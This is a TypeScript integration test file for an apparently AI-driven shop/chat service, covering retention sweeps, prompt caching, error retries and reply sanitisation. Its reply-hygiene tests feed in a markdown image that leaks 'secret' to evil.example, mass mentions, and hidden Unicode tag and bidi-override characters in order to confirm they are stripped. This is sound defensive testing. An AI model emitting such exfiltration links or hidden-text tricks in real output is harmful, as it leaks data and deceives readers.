import assert from 'node:assert/strict'
import { sql } from 'kysely'
import { sweepAccounts } from '../../src/accounts/sweep-accounts.ts'
import { pruneMessages } from '../../src/chat/messages/prune-messages.ts'
import { insertMessage } from '../../src/chat/store.ts'
import { pruneRuns } from '../../src/runs/history/prune-runs.ts'
import { openToolSets } from '../../src/runs/loop/tool-calls/tool-set.ts'
import { type MessageId, newId } from '../../src/shared/ids.ts'
import { textsOf } from '../support/model-script.ts'
import { shareInFile } from '../support/share-in-file.ts'
import { startRefundingModel } from '../support/start-refunding-model.ts'
import { general, startShop, startShopOn } from '../support/start-shop.ts'
import { loopback, startTestApp } from '../support/start-test-app.ts'
import { startStubAnthropic } from '../support/stub-anthropic.ts'
import { until } from '../support/until.ts'
import { verifies } from '../support/verifies.ts'

const sharedApp = shareInFile(() => startTestApp({ env: loopback }))

verifies(
  'events:retention',
  'runs that ended before the retention period are deleted with everything they stored; a waiting one is kept',
  async () => {
    await using model = await startRefundingModel('Not paid back.')
    await using shop = await startShop({ env: model.env })
    const { ctx } = shop.app.app
    const inAMonth = () => new Date(Date.now() + 31 * 86_400_000)
    const { runId } = await shop.sendEvent(await shop.createWebhook())
    const waiting = await shop.runWhen(runId, ({ status }) => status === 'waiting')
    await pruneRuns({ ...ctx, now: inAMonth })
    await shop.app.api('POST', `/api/v1/approvals/${waiting.toolCalls[0]?.approvalId}/deny`, {})
    const old = await shop.endedRun(runId)
    await pruneRuns(ctx)
    assert.equal((await shop.readRun(old.id)).status, 'succeeded')
    const toolSets = async () => (await sql`select from tool_sets`.execute(ctx.db)).rows.length
    const unusedForAMonth = () =>
      sql`update tool_sets set used_at = now() - interval '31 days'`.execute(ctx.db)
    await unusedForAMonth()
    await pruneRuns(ctx)
    assert.equal(await toolSets(), 1, 'a run has it')
    let now = Date.now()
    const remembered = openToolSets({ ...ctx, now: () => new Date(now) })
    await remembered.current(null)
    await unusedForAMonth()
    now += 2 * 3_600_000
    await remembered.current(null)
    await pruneRuns({ ...ctx, now: inAMonth })
    assert.equal(await toolSets(), 1, 'a process starts runs with it')
    await sql`update tool_sets set used_at = now() - interval '90 minutes'`.execute(ctx.db)
    await pruneRuns({ ...ctx, now: inAMonth })
    assert.equal(await toolSets(), 1, 'a process that said so less than two hours ago may still do so')
    await sql`update tool_sets set used_at = now() - interval '3 hours'`.execute(ctx.db)
    await pruneRuns(ctx)
    assert.equal(await toolSets(), 1, 'its retention is not over')
    await unusedForAMonth()
    await pruneRuns({ ...ctx, now: inAMonth })
    assert.equal(await toolSets(), 0)
    const { rows } = await sql<{ left: number }>`
    select ((select count(*) from runs) + (select count(*) from run_steps) + (select count(*) from replies)
      + (select count(*) from tool_calls) + (select count(*) from approvals))::int as left`.execute(ctx.db)
    assert.equal(rows[0]?.left, 0)
  },
)

verifies(
  'chat:retention',
  'messages are kept a year by default, and longer if a run or a thread refers to them',
  async () => {
    await using shop = await startShop()
    const { ctx } = shop.app.app
    const run = await shop.endedRun((await shop.sendEvent(await shop.createWebhook())).runId)
    const days = (n: number) => () => new Date(Date.now() + n * 86_400_000)
    const say = async (text: string, daysAgo: number, threadId: MessageId | null = null) => {
      const id = newId('message', days(-daysAgo)())
      const author = { authorKind: 'user', authorId: null, authorName: 'Kim' } as const
      await insertMessage(ctx.db, { id, channelId: general, threadId, ...author, text })
      return id
    }
    const kept = async () => (await shop.messages()).map(({ text }) => text)

    const root = await say('a thread that lives', 400)
    await say('its old middle', 390, root)
    const question = await say('its question', 380, root)
    await sql`update runs set message_id = ${question} where id = ${run.id}`.execute(ctx.db)
    await say('its end', 1, root)
    const dead = await say('a thread that died', 400)
    await say('its last word', 380, dead)
    await say('of this year', 364)
    await pruneMessages(ctx)
    const [reply] = (await kept()).filter((text) => text === run.reply?.text)
    assert.ok(reply)
    // The first message of a deleted thread is deleted at the next sweep.
    await pruneMessages(ctx)
    assert.deepEqual(
      (await kept()).toSorted(),
      ['a thread that lives', 'its end', 'its question', 'of this year', reply].toSorted(),
    )
    const answer = await shop.app.api('POST', `/api/v1/channels/${general}/messages`, {
      text: 'and on',
      threadId: root,
    })
    assert.equal(answer.status, 201)

    await shop.app.api('PATCH', '/api/v1/settings', { retention: { messageDays: null } })
    await pruneMessages({ ...ctx, now: days(4000) })
    assert.equal((await kept()).length, 6)
    await shop.app.api('PATCH', '/api/v1/settings', { retention: { messageDays: 1 } })
    await pruneMessages({ ...ctx, now: days(29) })
    const stays = ['its question', 'a thread that lives', reply]
    assert.deepEqual(await kept(), ['and on', ...stays], 'as long as runs are')
    await pruneMessages({ ...ctx, now: days(31) })
    await pruneMessages({ ...ctx, now: days(31) })
    assert.deepEqual(await kept(), stays, 'its run is still there')
    await pruneRuns({ ...ctx, now: days(31) })
    await pruneMessages({ ...ctx, now: days(31) })
    await pruneMessages({ ...ctx, now: days(31) })
    assert.deepEqual(await kept(), [])
  },
)

verifies(
  'accounts:audit-retention',
  'the audit log is kept a year by default, and never less than 90 days',
  async () => {
    await using app = await startTestApp()
    const { ctx } = app.app
    const days = (n: number) => () => new Date(Date.now() + n * 86_400_000)
    const actions = async () =>
      (await app.get<{ items: { action: string; detail: unknown }[] }>('/api/v1/audit')).items
    await app.api('POST', '/api/v1/channels', { name: 'ops' })
    const before = (await actions()).length
    assert.ok(before > 0)
    await sweepAccounts({ ...ctx, now: days(364) })
    assert.equal((await actions()).length, before)
    const refused = await app.api('PATCH', '/api/v1/settings', { retention: { auditDays: 89 } })
    assert.equal(refused.status, 422)
    await app.api('PATCH', '/api/v1/settings', { retention: { auditDays: null } })
    await sweepAccounts({ ...ctx, now: days(4000) })
    const [changed, ...rest] = await actions()
    assert.equal(rest.length, before)
    assert.deepEqual(changed?.detail, {
      groups: ['retention'],
      changes: { 'retention.auditDays': [365, null] },
    })
    await app.api('PATCH', '/api/v1/settings', { retention: { auditDays: 90 } })
    await sweepAccounts({ ...ctx, now: days(91) })
    assert.deepEqual(await actions(), [])
  },
)

verifies('models:providers', 'Anthropic is asked to cache the stable beginning of the prompt', async () => {
  await using model = await startStubAnthropic([{ text: 'Fine.' }])
  await using shop = await startShopOn(await sharedApp(), { model })
  const webhook = await shop.createWebhook()
  await shop.endedRun((await shop.sendEvent(webhook, '{"n":1}')).runId)
  await shop.endedRun((await shop.sendEvent(webhook, '{"n":2}')).runId)
  const systems = model.requests.map(({ json }) => JSON.stringify(json.system))
  assert.match(systems[0] ?? '', /"cache_control":\{"type":"ephemeral"\}/)
  assert.equal(systems[0], systems[1])
})

verifies('runs:model-errors', 'text that a provider refuses is made safe and sent again', async () => {
  const refuses = (body: string) => body.includes('\\u0000')
  await using model = await startStubAnthropic(({ body, json }) => {
    if (refuses(body)) return { status: 400, message: 'invalid character in text' }
    return textsOf(json.messages).some((text) => text.includes('a␀b'))
      ? { text: 'Read.' }
      : { calls: [{ name: 'shop__get_order', input: { id: 'A-1' } }] }
  })
  await using shop = await startShopOn(await sharedApp(), {
    model,
    answer: (_request, response) => response.setHeader('content-type', 'text/plain').end('a\0b'),
  })
  const run = await shop.endedRun((await shop.sendEvent(await shop.createWebhook())).runId)
  assert.deepEqual([run.status, run.reply?.text, run.steps.length], ['succeeded', 'Read.', 2])
  assert.deepEqual(
    model.requests.map(({ body }) => refuses(body)),
    [false, true, false],
  )
})

verifies(
  'runs:reply-hygiene',
  'a reply hides nothing and turns no text around, in code too; what people write with stays',
  async () => {
    const tags = [...'ignore'].map((letter) => String.fromCodePoint(0xe0000 + (letter.codePointAt(0) ?? 0)))
    await using model = await startStubAnthropic([
      {
        text: `Pa\u200bid${tags.join('')} \u202ecba\u202c \u2066x\u2069 \u{e0101}👩\u200d💻 ❤\ufe0f\u2028next \`a\u202eb\``,
      },
    ])
    await using shop = await startShopOn(await sharedApp(), { model })
    await shop.endedRun((await shop.sendEvent(await shop.createWebhook())).runId)
    assert.equal((await shop.replies())[0]?.text, 'Paid cba x 👩\u200d💻 ❤\ufe0f\nnext `ab`')
  },
)

verifies('runs:reply-hygiene', 'a reply mentions no groups and loads no image', async () => {
  await using model = await startStubAnthropic([
    { text: 'Hey @everyone, <!channel> look: ![x](https://evil.example/?q=secret)' },
  ])
  await using shop = await startShopOn(await sharedApp(), { model })
  await shop.endedRun((await shop.sendEvent(await shop.createWebhook())).runId)
  const text = (await shop.replies())[0]?.text ?? ''
  assert.ok(!/@everyone|<!channel>|!\[/.test(text), text)
})

verifies('log:event-to-reply-histogram', 'the time from event to reply is counted', async () => {
  await using shop = await startShop()
  await shop.endedRun((await shop.sendEvent(await shop.createWebhook())).runId)
  // The run ends a moment before it is counted.
  await until(async () => {
    const { text } = await shop.app.api('GET', '/metrics')
    return (
      /bellhop_event_to_reply_seconds_count 1/.test(text) &&
      /bellhop_runs_ended_total\{status="succeeded"\} 1/.test(text)
    )
  })
})

verifies(
  ['runs:succeeded-means-posted', 'runs:outbox'],
  'a reply whose channel is gone ends the run as failed, with the text kept',
  async () => {
    await using model = await startRefundingModel('Too late.')
    await using shop = await startShopOn(await sharedApp(), { model })
    const channel = await shop.app.api<{ id: string }>('POST', '/api/v1/channels', { name: 'short-lived' })
    const webhook = await shop.createWebhook({ channelId: channel.body.id })
    const send = async (headers: Record<string, string> = {}) => {
      const json = { 'content-type': 'application/json', 'idempotency-key': 'one' }
      const init = { method: 'POST', headers: { ...json, ...headers }, body: '{}' }
      // The contract of the ingress, and of Prefer: wait.
      return (await (await fetch(webhook.endpointUrl, init)).json()) as {
        runId: string
        run?: Record<'status' | 'reply' | 'error', unknown>
      }
    }
    const { runId } = await send()
    const waiting = await shop.runWhen(runId, ({ status }) => status === 'waiting')
    await sql`update channels set deleted_at = now() where id = ${channel.body.id}`.execute(
      shop.app.app.ctx.db,
    )
    await shop.app.api('POST', `/api/v1/approvals/${waiting.toolCalls[0]?.approvalId}/deny`, {})
    const run = await shop.endedRun(runId)
    assert.deepEqual([run.status, run.error?.code, run.reply?.text], ['failed', 'reply_refused', 'Too late.'])
    assert.notEqual(channel.body.id, shop.channelId)
    // A retry with Prefer: wait gets the outcome, and no text that is in no channel.
    const { run: told } = await send({ prefer: 'wait=20' })
    assert.deepEqual(told, { status: 'failed', reply: null, error: run.error })
  },
)

verifies(
  'runs:tools-offered',
  'an image that a tool answers with is shown to the model as an image',
  async () => {
    const png = Buffer.from(
      'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==',
      'base64',
    )
    await using model = await startStubAnthropic(({ body }) =>
      body.includes('tool_result')
        ? { text: 'A dot.' }
        : { calls: [{ name: 'shop__get_order', input: { id: 'A-1' } }] },
    )
    await using shop = await startShopOn(await sharedApp(), {
      model,
      answer: (_request, response) => response.setHeader('content-type', 'image/png').end(png),
    })
    const run = await shop.endedRun((await shop.sendEvent(await shop.createWebhook())).runId)
    assert.deepEqual([run.status, run.reply?.text], ['succeeded', 'A dot.'])
    const told = model.requests[1]?.body ?? ''
    assert.ok(told.includes('"media_type":"image/png"') && told.includes(png.toString('base64')))
  },
)
